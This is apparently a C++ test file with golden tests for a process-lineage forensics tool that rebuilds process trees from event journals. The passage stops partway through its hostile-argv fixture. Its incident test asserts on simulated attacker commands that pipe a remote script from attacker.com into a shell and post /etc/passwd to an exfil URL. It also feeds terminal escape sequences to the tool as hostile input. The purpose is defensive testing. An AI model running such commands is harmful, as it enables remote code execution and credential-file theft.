// Golden tests of `lineage reconstruct`, and unit tests of build_report.
//
// Every golden case builds a real journal with FixtureJournal (through
// JournalWriter), runs the real binary (LINEAGE_BIN) with --color never and
// explicit --since/--until, and compares stdout byte for byte with
// testdata/golden/<name>.txt or <name>.json.
//
// Updating the goldens after an intended output change:
//
//   LINEAGE_UPDATE_GOLDEN=1 build/tests/unit_tests "[reconstruct]"
//   git diff testdata/golden/
//
// With LINEAGE_UPDATE_GOLDEN=1 the comparisons are skipped and every golden
// file is rewritten from the current output (the other assertions still
// run). Read every changed golden before keeping it: a golden that tells the
// wrong story is a bug, not a new expectation.
//
// Run only these: unit_tests "[reconstruct]" (about 3 s, with the schema
// checks of test_json_schema.cpp).
//
// (Bugs found while writing these tests were fixed in lib/; their cases assert
// the right behaviour.)

#include <catch2/catch.hpp>

#include <algorithm>
#include <filesystem>
#include <functional>
#include <optional>
#include <set>
#include <stdexcept>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "escape.h"
#include "fixture_journal.h"
#include "reconstruct.h"

namespace test_reconstruct {

using namespace fixture;
using nlohmann::json;

namespace {

const std::vector<std::string> kNoColor{"--color", "never"};

std::vector<std::string> reconstruct_args(const std::vector<std::string>& journals, const std::string& since,
                                          const std::string& until, std::vector<std::string> extra) {
    std::vector<std::string> a{"reconstruct"};
    for (const auto& j : journals) {
        a.push_back("--journal");
        a.push_back(j);
    }
    a.insert(a.end(), {"--since", since, "--until", until});
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
}

// One journal in a fresh directory; the binary runs there and is given the
// relative file name, so paths in the output do not depend on the machine.
struct Case {
    TempDir dir;
    std::string journal;

    Case(const FixtureJournal& fx, const std::string& name) : journal(name) { fx.write(dir / name); }

    RunResult run(const std::string& since, const std::string& until, std::vector<std::string> extra,
                  const EnvEdits& env = {}) const {
        return run_lineage(reconstruct_args({journal}, since, until, std::move(extra)), dir.path(), env);
    }
};

std::vector<std::string> with(std::vector<std::string> a, const std::vector<std::string>& b) {
    a.insert(a.end(), b.begin(), b.end());
    return a;
}

// No byte a terminal would act on: nothing below 0x20 but the newline, no DEL.
std::string first_control_byte(const std::string& s) {
    for (size_t i = 0; i < s.size(); ++i) {
        unsigned char c = static_cast<unsigned char>(s[i]);
        if ((c < 0x20 && c != '\n') || c == 0x7f) {
            return fmt::format("byte 0x{:02x} at offset {}: ...{}...", c, i,
                               lineage::escape_for_terminal(s.substr(i < 40 ? 0 : i - 40, 80)));
        }
    }
    return "";
}

std::string base64_decode(const std::string& in) {
    static const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    uint32_t buf = 0;
    int bits = 0;
    for (char c : in) {
        if (c == '=') break;
        auto v = alphabet.find(c);
        if (v == std::string::npos) throw std::runtime_error("bad base64");
        buf = (buf << 6) | static_cast<uint32_t>(v);
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            out.push_back(static_cast<char>((buf >> bits) & 0xff));
        }
    }
    return out;
}

// Every node of the JSON trees, depth first.
void collect_nodes(const json& node, std::vector<json>& out) {
    out.push_back(node);
    for (const auto& c : node.at("children")) collect_nodes(c, out);
}

std::vector<json> all_nodes(const json& doc) {
    std::vector<json> out;
    for (const auto& t : doc.at("trees")) collect_nodes(t, out);
    return out;
}

std::optional<json> node_with_pid(const std::vector<json>& nodes, uint32_t pid) {
    for (const auto& n : nodes)
        if (n.at("pid").get<uint32_t>() == pid) return n;
    return std::nullopt;
}

}  // namespace

// ============================================================== the incident

TEST_CASE("incident in a pod: tree from the pod's topmost process, parent outside the pod", "[reconstruct]") {
    Case c(incident_fixture(), "incident.db");

    RunResult text = c.run(kIncidentSince, kIncidentUntil, with({"--pod", kIncidentPodName}, kNoColor));
    CHECK(text.status == 0);
    CHECK(text.err == "");
    CHECK(golden_mismatch("incident_pod.txt", text.out) == "");
    // The story, independent of the golden.
    // The workload as the responder knows it: the container's name and
    // image, from containerd's bundle (the fixture's containers row).
    CHECK(text.out.find("pod production/my-app-6d4f9-xk2p1  container my-app  image "
                        "registry.example.test/shop/my-app:2.3.1  (4f1a2b3c4d5e)  (uid " +
                        kIncidentPodUid + ")\n") == 0);
    CHECK(text.out.find("parent outside the pod: containerd-shim (PID 18150)\n") != std::string::npos);
    CHECK(text.out.find("sh -c \"curl http://attacker.com/payload.sh | sh\"") != std::string::npos);
    CHECK(text.out.find("curl http://attacker.com/exfil -d @/etc/passwd") != std::string::npos);
    CHECK(text.out.find("connect 93.184.216.34:80") != std::string::npos);
    CHECK(text.out.find("journalctl") == std::string::npos);  // host process, not in the pod
    CHECK(text.out.find("splash") == std::string::npos);      // systemd is above the pod

    SECTION("namespace/name and pod UID select the same pod, same bytes") {
        for (const std::string& sel : {kIncidentNamespace + "/" + kIncidentPodName, kIncidentPodUid}) {
            INFO("--pod " << sel);
            RunResult r = c.run(kIncidentSince, kIncidentUntil, with({"--pod", sel}, kNoColor));
            CHECK(r.status == 0);
            CHECK(r.out == text.out);
        }
    }

    SECTION("--ascii") {
        RunResult r = c.run(kIncidentSince, kIncidentUntil, with({"--pod", kIncidentPodName, "--ascii"}, kNoColor));
        CHECK(r.status == 0);
        CHECK(golden_mismatch("incident_pod_ascii.txt", r.out) == "");
        for (unsigned char ch : r.out) {
            INFO("--ascii output has a non-ASCII byte");
            REQUIRE(ch < 0x80);
        }
    }

    SECTION("colour: NO_COLOR unset and stdout a pipe (auto) gives the plain golden; always paints") {
        RunResult automatic =
            c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName}, EnvEdits{{"NO_COLOR", std::nullopt}});
        CHECK(automatic.status == 0);
        CHECK(automatic.out == text.out);
        RunResult always = c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName, "--color", "always"},
                                 EnvEdits{{"NO_COLOR", std::nullopt}});
        CHECK(always.out.find("\x1b[") != std::string::npos);
        RunResult no_color = c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName, "--color", "always"},
                                   EnvEdits{{"NO_COLOR", "1"}});
        CHECK(no_color.out == text.out);
    }

    SECTION("JSON") {
        RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--pod", kIncidentPodName, "--format", "json"});
        CHECK(r.status == 0);
        CHECK(golden_mismatch("incident_pod.json", r.out) == "");
        json doc = json::parse(r.out);
        CHECK(doc.at("matched") == 5);
        REQUIRE(doc.at("trees").size() == 1);
        const json& root = doc.at("trees")[0];
        CHECK(root.at("pid") == 18201);
        CHECK(root.at("nspid") == 1);
        CHECK(root.at("outside_parent").at("why") == "outside the pod");
        CHECK(root.at("outside_parent").at("pid") == 18150);
        CHECK(root.at("outside_parent").at("key") == "b0000000-0000-4000-8000-000000000001:18150:94080");
        CHECK(root.at("pod").at("namespace") == kIncidentNamespace);
        CHECK(root.at("pod").at("container_id") == kIncidentContainer);
        auto nodes = all_nodes(doc);
        CHECK(nodes.size() == 5);
        auto curl = node_with_pid(nodes, 18296);
        REQUIRE(curl);
        CHECK(curl->at("connects")[0].at("daddr") == "93.184.216.34");
        CHECK(curl->at("connects")[0].at("dport") == 80);
        CHECK(curl->at("parent_key") == "b0000000-0000-4000-8000-000000000001:18294:104290");
    }

    SECTION("--ancestors continues past the pod to PID 1") {
        RunResult r = c.run(kIncidentSince, kIncidentUntil, with({"--pod", kIncidentPodName, "--ancestors"}, kNoColor));
        CHECK(r.status == 0);
        CHECK(golden_mismatch("incident_pod_ancestors.txt", r.out) == "");
        CHECK(r.out.find("parent outside the pod") == std::string::npos);
        CHECK(r.out.find("/sbin/init splash") != std::string::npos);
        CHECK(r.out.find("containerd-shim-runc-v2 -namespace k8s.io") != std::string::npos);
    }
}

// ============================================================== identity

namespace {

FixtureJournal pid_reuse_fixture() {
    FixtureJournal fx;
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    // Started before the journal: /proc gave a tick, the kernel later gives ns.
    Proc bash = fx.snapshot(4000, 1, at(920, 5'678'901), "bash", "/usr/bin/bash", {"-bash"});
    Proc first = FixtureJournal::proc(4242, at(1001, 200'000'000));
    fx.fork(bash, first, at(1001, 200'000'000));
    fx.exec(first, "/usr/bin/python3", {"python3", "job.py"}, at(1001, 201'000'000));
    fx.exit(first, at(1003, 0), 0);
    Proc second = FixtureJournal::proc(4242, at(1050, 700'000'000));
    fx.fork(bash, second, at(1050, 700'000'000));
    fx.exec(second, "/usr/bin/wget", {"wget", "http://example.com/x"}, at(1050, 701'000'000));
    fx.exit(second, at(1051, 0), 4);
    return fx;
}

}  // namespace

TEST_CASE("PID reuse: two incarnations of one PID in one window stay apart", "[reconstruct]") {
    Case c(pid_reuse_fixture(), "pid_reuse.db");
    RunResult text = c.run(kIncidentSince, kIncidentUntil, with({"--pid", "4242"}, kNoColor));
    CHECK(text.status == 0);
    CHECK(golden_mismatch("pid_reuse.txt", text.out) == "");
    CHECK(text.out.find("python3 job.py") != std::string::npos);
    CHECK(text.out.find("wget http://example.com/x") != std::string::npos);
    // Two processes, not one process with two images.
    CHECK(text.out.find("python3 job.py →") == std::string::npos);

    RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--pid", "4242", "--format", "json"});
    CHECK(r.status == 0);
    CHECK(golden_mismatch("pid_reuse.json", r.out) == "");
    json doc = json::parse(r.out);
    CHECK(doc.at("matched") == 2);
    std::set<std::string> keys;
    for (const auto& n : all_nodes(doc)) {
        if (n.at("pid") == 4242) {
            keys.insert(n.at("key").get<std::string>());
            CHECK(n.at("execs").size() == 1);
            // Both forked by the bash the snapshot saw at tick precision.
            CHECK(n.at("parent_key") == "b0000000-0000-4000-8000-000000000001:4000:92000");
        }
    }
    CHECK(keys == std::set<std::string>{"b0000000-0000-4000-8000-000000000001:4242:100120",
                                        "b0000000-0000-4000-8000-000000000001:4242:105070"});
}

TEST_CASE("exec chain: one PID, three images, shown as one line", "[reconstruct]") {
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc p = FixtureJournal::proc(5000, at(1001, 424'242'424));
    fx.fork(init, p, at(1001, 424'242'424));
    fx.exec(p, "/bin/sh", {"sh"}, at(1001, 425'000'000));
    fx.exec(p, "/bin/bash", {"bash", "-i"}, at(1005, 0));
    fx.exec(p, "/bin/sleep", {"sleep", "30"}, at(1010, 0));
    fx.exit(p, at(1040, 0), 0, 15);
    Case c(fx, "exec_chain.db");

    RunResult text = c.run(kIncidentSince, kIncidentUntil, with({"--pid", "5000"}, kNoColor));
    CHECK(text.status == 0);
    CHECK(golden_mismatch("exec_chain.txt", text.out) == "");
    CHECK(text.out.find("sh → bash -i → sleep 30  (PID 5000)") != std::string::npos);
    CHECK(text.out.find("killed by SIGTERM") != std::string::npos);

    RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--pid", "5000", "--format", "json"});
    CHECK(golden_mismatch("exec_chain.json", r.out) == "");
    json doc = json::parse(r.out);
    auto n = node_with_pid(all_nodes(doc), 5000);
    REQUIRE(n);
    REQUIRE(n->at("execs").size() == 3);
    CHECK(n->at("execs")[0].at("binary") == "/bin/sh");
    CHECK(n->at("execs")[2].at("binary") == "/bin/sleep");
    CHECK(n->at("binary") == "/bin/sleep");  // the last image
    CHECK(n->at("exit").at("signal_name") == "SIGTERM");
}

TEST_CASE("orphan: parent exits before the child execs and the child stays under its forker", "[reconstruct]") {
    FixtureJournal fx;
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc bash = fx.snapshot(5990, 1, at(930, 1'000'000), "bash", "/usr/bin/bash", {"bash"});
    Proc sh = FixtureJournal::proc(6000, at(1001, 100'000'000));
    fx.fork(bash, sh, at(1001, 100'000'000));
    fx.exec(sh, "/bin/sh", {"sh", "-c", "nohup worker &"}, at(1001, 101'000'000));
    Proc worker = FixtureJournal::proc(6001, at(1001, 500'000'000));
    fx.fork(sh, worker, at(1001, 500'000'000));
    fx.exit(sh, at(1001, 600'000'000), 0);
    // By now the exec row's real parent is the reaper (PID 1).
    fx.exec(worker, "/usr/local/bin/worker", {"worker", "--daemon"}, at(1002, 0));
    Case c(fx, "orphan.db");

    RunResult text = c.run(kIncidentSince, kIncidentUntil, with({"--pid", "6001"}, kNoColor));
    CHECK(text.status == 0);
    CHECK(golden_mismatch("orphan.txt", text.out) == "");

    RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--pid", "6001", "--format", "json"});
    CHECK(golden_mismatch("orphan.json", r.out) == "");
    json doc = json::parse(r.out);
    auto nodes = all_nodes(doc);
    auto n = node_with_pid(nodes, 6001);
    REQUIRE(n);
    CHECK(n->at("ppid") == 6000);
    CHECK(n->at("parent_source") == "fork");
    auto parent = node_with_pid(nodes, 6000);
    REQUIRE(parent);
    REQUIRE(parent->at("children").size() == 1);
    CHECK(parent->at("children")[0].at("pid") == 6001);
    CHECK(doc.at("warnings").empty());
}

// ============================================================== before the journal

namespace {

FixtureJournal before_journal_fixture() {
    FixtureJournal fx;
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    fx.snapshot(800, 1, at(5, 123'456'789), "sshd", "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener]"});
    fx.snapshot(850, 800, at(900, 450'000'000), "sshd", "/usr/sbin/sshd", {"sshd: alice [priv]"});
    Proc bash = fx.snapshot(851, 850, at(901, 987'654'321), "bash", "/usr/bin/bash", {"-bash"});
    Proc vim = FixtureJournal::proc(7001, at(1005, 333'333'333));
    fx.fork(bash, vim, at(1005, 333'333'333));
    fx.exec(vim, "/usr/bin/vim", {"vim", "/etc/hosts"}, at(1005, 334'000'000));
    fx.exit(vim, at(1030, 0), 0);

    // Seen only through its connect and exit rows: no fork, no exec, no snapshot.
    Proc psql = FixtureJournal::proc(7500, at(700, 0));
    fx.comm(psql, "psql");
    fx.connect(psql, "10.0.0.5", 5432, at(1010, 0));
    fx.exit(psql, at(1011, 0), 0);

    // Its exec names a parent that is in neither the snapshot nor any row.
    Proc cron = FixtureJournal::proc(7550, at(800, 0));
    fx.comm(cron, "cron");
    Proc job = FixtureJournal::proc(7600, at(1020, 555'555'555));
    ExecOpts opts;
    opts.parent = cron;
    fx.exec(job, "/usr/local/bin/backup", {"backup", "--all"}, at(1020, 556'000'000), opts);
    fx.exit(job, at(1025, 0), 0);
    return fx;
}

}  // namespace

TEST_CASE("processes from before the journal: the snapshot closes the chain, else a warning", "[reconstruct]") {
    Case c(before_journal_fixture(), "before.db");
    RunResult text = c.run(kIncidentSince, kIncidentUntil, kNoColor);
    CHECK(text.status == 0);
    CHECK(golden_mismatch("before_journal.txt", text.out) == "");
    CHECK(text.out.find("sshd: alice [priv]") != std::string::npos);
    CHECK(text.out.find("warning: parent of psql (PID 7500) is unknown") != std::string::npos);
    CHECK(text.out.find("warning: parent of backup (PID 7600) is cron (PID 7550), which is not in the journal") !=
          std::string::npos);
    CHECK(text.err.find("lineage: warning: parent of psql (PID 7500) is unknown") != std::string::npos);

    RunResult r = c.run(kIncidentSince, kIncidentUntil, {"--format", "json"});
    CHECK(golden_mismatch("before_journal.json", r.out) == "");
    json doc = json::parse(r.out);
    auto nodes = all_nodes(doc);
    auto vim = node_with_pid(nodes, 7001);
    REQUIRE(vim);
    CHECK(vim->at("parent_source") == "fork");
    auto bash = node_with_pid(nodes, 851);
    REQUIRE(bash);
    CHECK(bash->at("parent_source") == "snapshot");
    // bash is known from the snapshot (tick precision), but vim's fork row
    // carries bash's start in nanoseconds: the model uses it.
    CHECK(bash->at("start_precise") == true);
    CHECK(bash->at("start_time") == "2026-04-22T08:58:21.987654321Z");
    auto sshd = node_with_pid(nodes, 850);
    REQUIRE(sshd);
    CHECK(sshd->at("start_precise") == false);  // only /proc's tick
    CHECK(sshd->at("execs")[0].at("from_snapshot") == true);
    CHECK(sshd->at("execs")[0].at("time") == nullptr);
    size_t unknown = 0;
    for (const auto& w : doc.at("warnings")) unknown += w.at("kind") == "unknown_parent";
    CHECK(unknown == 2);
    // The chain reaches PID 1: one tree for it, one per unknown parent.
    CHECK(doc.at("trees").size() == 3);
}

// ============================================================== windows

namespace {

FixtureJournal window_fixture() {
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc sh = FixtureJournal::proc(7990, at(1000, 250'000'000));
    fx.fork(init, sh, at(1000, 250'000'000));
    fx.exec(sh, "/bin/sh", {"sh", "-c", "backup.sh"}, at(1000, 251'000'000));
    Proc rsync = FixtureJournal::proc(8000, at(1005, 777'777'777));
    fx.fork(sh, rsync, at(1005, 777'777'777));
    fx.exec(rsync, "/usr/bin/rsync", {"rsync", "-a", "/data", "backup:/data"}, at(1005, 778'000'000));
    fx.exit(sh, at(1030, 0), 0);  // before the window
    fx.connect(rsync, "2001:db8::9", 873, at(1065, 0), false, "fd00::17", 50112, 6);
    fx.connect(rsync, "10.0.0.9", 873, at(1070, 0));
    fx.exit(rsync, at(1090, 500'000'000), 23);  // inside the window
    // Entirely before and entirely after the window: not shown.
    Proc before = FixtureJournal::proc(8200, at(1010, 0));
    fx.fork(init, before, at(1010, 0));
    fx.exec(before, "/usr/bin/date", {"date"}, at(1010, 1'000'000));
    fx.exit(before, at(1020, 0), 0);
    Proc after = FixtureJournal::proc(8100, at(1130, 0));
    fx.fork(init, after, at(1130, 0));
    fx.exec(after, "/usr/bin/uptime", {"uptime"}, at(1130, 1'000'000));
    fx.exit(after, at(1140, 0), 0);
    return fx;
}

const std::string kWindowSince = "2026-04-22T09:01:00Z";  // boot 1060 s
const std::string kWindowUntil = "2026-04-22T09:02:00Z";  // boot 1120 s

}  // namespace

TEST_CASE("a window that cuts through a process's life", "[reconstruct]") {
    Case c(window_fixture(), "window.db");
    RunResult text = c.run(kWindowSince, kWindowUntil, kNoColor);
    CHECK(text.status == 0);
    CHECK(golden_mismatch("window_cut.txt", text.out) == "");
    CHECK(text.out.find("date") == std::string::npos);
    CHECK(text.out.find("uptime") == std::string::npos);
    // The parent exited 30 s before the window: shown, and marked.
    CHECK(text.out.find("sh -c backup.sh  (PID 7990)  -59.750s  exit 0  [outside window]\n") != std::string::npos);

    RunResult times = c.run(kWindowSince, kWindowUntil, with({"--times"}, kNoColor));
    CHECK(golden_mismatch("window_cut_times.txt", times.out) == "");
    CHECK(times.out.find("2026-04-22 09:00:05Z") != std::string::npos);  // rsync's start

    RunResult r = c.run(kWindowSince, kWindowUntil, {"--format", "json"});
    CHECK(golden_mismatch("window_cut.json", r.out) == "");
    json doc = json::parse(r.out);
    CHECK(doc.at("window").at("since") == "2026-04-22T09:01:00.000000000Z");
    CHECK(doc.at("window").at("until") == "2026-04-22T09:02:00.000000000Z");
    auto nodes = all_nodes(doc);
    auto rsync = node_with_pid(nodes, 8000);
    REQUIRE(rsync);
    CHECK(rsync->at("in_window") == true);
    CHECK(rsync->at("matched") == true);
    CHECK(rsync->at("exit").at("code") == 23);
    auto sh = node_with_pid(nodes, 7990);
    REQUIRE(sh);
    CHECK(sh->at("in_window") == false);
    CHECK(sh->at("matched") == false);
    CHECK_FALSE(node_with_pid(nodes, 8100));
    CHECK_FALSE(node_with_pid(nodes, 8200));
}

namespace {

FixtureJournal loss_fixture() {
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc py = FixtureJournal::proc(8500, at(995, 314'159'265));
    fx.fork(init, py, at(995, 314'159'265));
    fx.exec(py, "/usr/bin/python3", {"python3", "worker.py"}, at(995, 315'000'000));
    fx.loss(at(1070, 0), at(1071, 500'000'000), 42, "ringbuf_full");
    fx.loss(at(1150, 0), at(1151, 0), 7, "journal_write");
    return fx;
}

}  // namespace

TEST_CASE("loss records: a warning when they overlap the window, none otherwise", "[reconstruct]") {
    Case c(loss_fixture(), "loss.db");
    const std::string warning =
        "events may be missing between 2026-04-22T09:01:10.000000000Z and 2026-04-22T09:01:11.500000000Z: "
        "42 events lost (ringbuf_full) in loss.db";

    RunResult text = c.run(kWindowSince, kWindowUntil, with({"--pid", "8500"}, kNoColor));
    CHECK(text.status == 0);
    CHECK(golden_mismatch("loss_in_window.txt", text.out) == "");
    CHECK(text.out.find("warning: " + warning + "\n") == 0);
    CHECK(text.err == "lineage: warning: " + warning + "\n");
    CHECK(text.out.find("journal_write") == std::string::npos);

    RunResult r = c.run(kWindowSince, kWindowUntil, {"--pid", "8500", "--format", "json"});
    CHECK(golden_mismatch("loss_in_window.json", r.out) == "");
    CHECK(r.err == "lineage: warning: " + warning + "\n");
    json doc = json::parse(r.out);
    REQUIRE(doc.at("warnings").size() == 1);
    CHECK(doc.at("warnings")[0].at("kind") == "loss");
    CHECK(doc.at("warnings")[0].at("message") == warning);
    CHECK(doc.at("warnings")[0].at("from") == "2026-04-22T09:01:10.000000000Z");
    CHECK(doc.at("warnings")[0].at("to") == "2026-04-22T09:01:11.500000000Z");

    // 09:00:00-09:01:00: both losses are outside.
    RunResult quiet = c.run("2026-04-22T09:00:00Z", "2026-04-22T09:01:00Z", with({"--pid", "8500"}, kNoColor));
    CHECK(quiet.status == 0);
    CHECK(golden_mismatch("loss_outside_window.txt", quiet.out) == "");
    CHECK(quiet.out.find("warning") == std::string::npos);
    CHECK(quiet.err == "");
}

// ============================================================== two boots

TEST_CASE("two journals from different boots reusing PIDs are never joined", "[reconstruct]") {
    RunOptions a_run;
    a_run.boot_id = "aaaaaaaa-0000-4000-8000-00000000000a";
    a_run.node = "node-a";
    FixtureJournal a(a_run);
    Proc a_init = a.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc nginx = FixtureJournal::proc(3000, at(1001, 111'111'111));
    a.fork(a_init, nginx, at(1001, 111'111'111));
    a.exec(nginx, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}, at(1001, 112'000'000));
    Proc a_sh = FixtureJournal::proc(3001, at(1002, 222'222'222));
    a.fork(nginx, a_sh, at(1002, 222'222'222));
    a.exec(a_sh, "/bin/sh", {"sh", "-c", "echo A"}, at(1002, 223'000'000));
    a.exit(a_sh, at(1002, 300'000'000), 0);

    // Another node, another boot: its boot clock reads the same numbers two
    // minutes later. Same PID, same start ns, and its exec names a parent
    // 3000 with the same start as node-a's nginx, which this boot never saw.
    RunOptions b_run;
    b_run.boot_id = "bbbbbbbb-0000-4000-8000-00000000000b";
    b_run.node = "node-b";
    b_run.clock_wall_ns = kWall0 + 120LL * 1'000'000'000;
    FixtureJournal b(b_run);
    b.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, "/init.scope",
               "node-b");
    Proc b_sh = FixtureJournal::proc(3001, at(1002, 222'222'222));
    Proc b_parent = FixtureJournal::proc(3000, at(1001, 111'111'111));
    b.comm(b_parent, "nginx");
    ExecOpts opts;
    opts.parent = b_parent;
    opts.nodename = "node-b";
    b.exec(b_sh, "/bin/sh", {"sh", "-c", "echo B"}, at(1002, 223'000'000), opts);
    b.exit(b_sh, at(1002, 300'000'000), 0);

    TempDir dir;
    a.write(dir / "node-a.db");
    b.write(dir / "node-b.db");
    auto run = [&](std::vector<std::string> extra) {
        return run_lineage(reconstruct_args({"node-a.db", "node-b.db"}, "2026-04-22T09:00:00Z", "2026-04-22T09:10:00Z",
                                            std::move(extra)),
                           dir.path());
    };

    RunResult text = run(with({"--pid", "3001"}, kNoColor));
    CHECK(text.status == 0);
    CHECK(golden_mismatch("two_boots.txt", text.out) == "");
    CHECK(text.out.find("echo A") != std::string::npos);
    CHECK(text.out.find("echo B") != std::string::npos);

    RunResult r = run({"--pid", "3001", "--format", "json"});
    CHECK(golden_mismatch("two_boots.json", r.out) == "");
    json doc = json::parse(r.out);
    CHECK(doc.at("journal").at("paths") == json({"node-a.db", "node-b.db"}));
    CHECK(doc.at("journal").at("nodes") == json({"node-a", "node-b"}));
    CHECK(doc.at("journal").at("boot_ids") == json({a_run.boot_id, b_run.boot_id}));
    CHECK(doc.at("matched") == 2);
    auto nodes = all_nodes(doc);
    std::vector<json> shells;
    for (const auto& n : nodes)
        if (n.at("pid") == 3001) shells.push_back(n);
    REQUIRE(shells.size() == 2);
    CHECK(shells[0].at("key") != shells[1].at("key"));
    for (const auto& s : shells) {
        const std::string key = s.at("key");
        const std::string boot = key.substr(0, key.find(':'));
        INFO(key);
        CHECK(key == boot + ":3001:100222");
        // The parent is always of the same boot.
        CHECK(s.at("parent_key") == boot + ":3000:100111");
    }
    // node-a: 1 -> 3000 -> 3001. node-b: 3001 alone, its parent not in the journal.
    REQUIRE(doc.at("trees").size() == 2);
    for (const auto& t : doc.at("trees")) {
        const std::string key = t.at("key");
        if (key.rfind(a_run.boot_id, 0) == 0) {
            CHECK(t.at("pid") == 1);
        } else {
            CHECK(t.at("pid") == 3001);
            CHECK(t.at("children").empty());
            CHECK(t.at("outside_parent").at("why") == "not in the journal");
            CHECK(t.at("outside_parent").at("key") == b_run.boot_id + ":3000:100111");
        }
    }
}

TEST_CASE("one boot in two journals: a copy, and a recorder restart", "[reconstruct]") {
    SECTION("the same rows twice (a journal and a later copy of it) are one history") {
        TempDir dir;
        incident_fixture().write(dir / "incident.db");
        std::filesystem::copy_file(dir / "incident.db", dir / "incident-copy.db");
        RunResult one = run_lineage(reconstruct_args({"incident.db"}, kIncidentSince, kIncidentUntil,
                                                     with({"--pod", kIncidentPodName}, kNoColor)),
                                    dir.path());
        RunResult two = run_lineage(reconstruct_args({"incident.db", "incident-copy.db"}, kIncidentSince,
                                                     kIncidentUntil, with({"--pod", kIncidentPodName}, kNoColor)),
                                    dir.path());
        CHECK(two.status == 0);
        // Same boot: the same keys, merged, not two trees.
        CHECK(two.out.find("parent outside the pod: containerd-shim (PID 18150)") != std::string::npos);
        CHECK(two.out.find("\n\n") == std::string::npos);
        // Rows read twice (two copies of one journal) are one history: one
        // exec image, one connect, one loss warning.
        CHECK(two.out == one.out);
        CHECK(two.out.find("sh payload.sh → sh payload.sh") == std::string::npos);

        RunResult js = run_lineage(reconstruct_args({"incident.db", "incident-copy.db"}, kIncidentSince, kIncidentUntil,
                                                    {"--pod", kIncidentPodName, "--format", "json"}),
                                   dir.path());
        json doc = json::parse(js.out);
        CHECK(doc.at("matched") == 5);
        CHECK(doc.at("trees").size() == 1);
        auto curl = node_with_pid(all_nodes(doc), 18296);
        REQUIRE(curl);
        CHECK(curl->at("execs").size() == 1);
        CHECK(curl->at("connects").size() == 1);
    }

    SECTION("a restart: the fork in the first journal, the reaper in the second's snapshot") {
        // Run 1 sees bash (not in its snapshot: started before, filtered)
        // fork sleep; bash exits; run 2 starts and its /proc snapshot shows
        // sleep reparented to PID 1; run 2 sees sleep killed.
        RunOptions r1;
        r1.stopped_ns = at(1020);
        FixtureJournal a(r1);
        a.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
        Proc bash = FixtureJournal::proc(1000, at(900, 0));
        a.comm(bash, "bash");
        Proc sleeper = FixtureJournal::proc(1001, at(1005, 123'456'789));
        a.fork(bash, sleeper, at(1005, 123'456'789));
        a.exec(sleeper, "/usr/bin/sleep", {"sleep", "600"}, at(1005, 124'000'000));
        RunOptions r2;
        r2.started_ns = at(1030);
        FixtureJournal b(r2);
        b.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
        Proc again = b.snapshot(1001, 1, at(1005, 123'456'789), "sleep", "/usr/bin/sleep", {"sleep", "600"});
        b.exit(again, at(1100), 0, 9);
        TempDir dir;
        a.write(dir / "run1.db");
        b.write(dir / "run2.db");

        auto run = [&](std::vector<std::string> journals, std::vector<std::string> extra) {
            return run_lineage(reconstruct_args(journals, kIncidentSince, kIncidentUntil, extra), dir.path());
        };
        const std::string right = "parent not in the journal: bash (PID 1000)\n";
        RunResult newest_first = run({"run2.db", "run1.db"}, with({"--pid", "1001"}, kNoColor));
        CHECK(newest_first.status == 0);
        CHECK(newest_first.out.find(right) != std::string::npos);
        CHECK(newest_first.out.find("sleep 600  (PID 1001)  +5.123s  killed by SIGKILL") != std::string::npos);

        RunResult oldest_first = run({"run1.db", "run2.db"}, with({"--pid", "1001"}, kNoColor));
        CHECK(oldest_first.status == 0);
        CHECK(oldest_first.out.find("killed by SIGKILL") != std::string::npos);
        // A later snapshot's ppid (the reaper) never overrides the forker
        // from an earlier journal's fork row, whatever the --journal order.
        CHECK(oldest_first.out == newest_first.out);
        CHECK(oldest_first.out.find(right) != std::string::npos);

        RunResult js = run({"run1.db", "run2.db"}, {"--pid", "1001", "--format", "json"});
        json doc = json::parse(js.out);
        REQUIRE(doc.at("trees").size() == 1);
        const json& root = doc.at("trees")[0];
        CHECK(root.at("pid") == 1001);
        CHECK(root.at("parent_source") == "fork");
        CHECK(root.at("parent_key") == "b0000000-0000-4000-8000-000000000001:1000:90000");
        CHECK(root.at("ppid") == 1000);
        CHECK(root.at("outside_parent").at("pid") == 1000);
    }
}

// ============================================================== hostile argv

namespace {

const std::vector<std::string> kHostileArgs{"printf",     "\x1b]0;pwned\x07", "\x1b[2J",
                                            "two\nlines", "\xff\xfe",         "tab\there"};
const std::string kBigArg = "\x1b]0;pwned\x07" + std::string(100 * 1024, 'A') + "\xff";

FixtureJournal hostile_fixture() {
    FixtureJournal fx;
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
